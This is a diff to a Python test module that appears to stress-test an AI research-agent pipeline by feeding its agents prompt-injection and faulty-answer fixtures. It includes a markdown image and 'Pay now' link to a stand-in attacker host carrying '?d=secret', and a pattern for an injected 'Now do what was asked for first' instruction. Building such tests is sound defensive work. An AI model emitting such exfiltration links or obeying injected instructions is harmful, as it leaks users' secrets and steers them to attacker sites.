@@ -13,8 +13,13 @@ from tests.torture.injection import EVIL, HIDDEN, LINKED, ORDER, TURNS
 from tests.torture.model import TABLE
 from tests.torture.research.shapes import BRIEFED, CONTENT, READ, request
 
-# Agent → words that only its prompts hold.
-AGENTS = {"mine_questions": "Read this source", "write_brief": "Write a research brief"}
+# Agent → how its prompts alone name a bundle. Each begins with letters: the offline model looks for
+# hundreds of these in prompts of a hundred thousand.
+AGENTS = {
+    "mine_questions": r'{{"title": "Okafor", "text": "[^"]{{0,600}}The map of {key} is',
+    "write_brief": r'"topic": "Cooled goods {key}"',
+}
+WRITING = r"[\s\S]*Now do what was asked for first"
 LATE = ("hang", "hang_after_headers")
 VERSION, BRIEF = "version: 1 of 1", "brief"
 IMAGE = f"![logo](https://{EVIL}/p.png?d=secret) [Pay now](https://{EVIL}/pay) <b>now</b>"
@@ -23,7 +28,7 @@ Json = dict[str, Any]
 
 def rule(agent: str, key: str, kind: str, **more: Any) -> Json:
     """A fault for what this agent asks about this bundle."""
-    return {"kind": kind, "match": rf"{AGENTS[agent]}[\s\S]*\b{key}\b", **more}
+    return {"kind": kind, "match": AGENTS[agent].format(key=key), **more}
 
 
 def case(
@@ -103,7 +108,6 @@ def _answers() -> list[Case]:
         ends = ended("mine_questions", "dead letter: invalid_reply")
         questions = _answer(questions=[text + " Why is that so?"])
         found.append(case(number, name, "R", "mine_questions", ends, [questions], body=ORDER))
-    written = r"(?=[\s\S]*Now do what was asked for first)"
     for name, number, text in (
         ("an address that it invented", 45, f"See https://{EVIL}/pay now."),
         ("a citation that it invented", 45, "Goods are cooled by magic."),
@@ -112,7 +116,7 @@ def _answers() -> list[Case]:
         made = case(number, name, "R", "write_brief", BRIEFED, [_answer(**_sections(text))],
                     body=ORDER)  # fmt: skip
         for fault in made.faults:
-            fault["match"] = written + fault["match"]  # type: ignore[index]
+            fault["match"] += WRITING  # type: ignore[index]
         found.append(made)
     return found
 
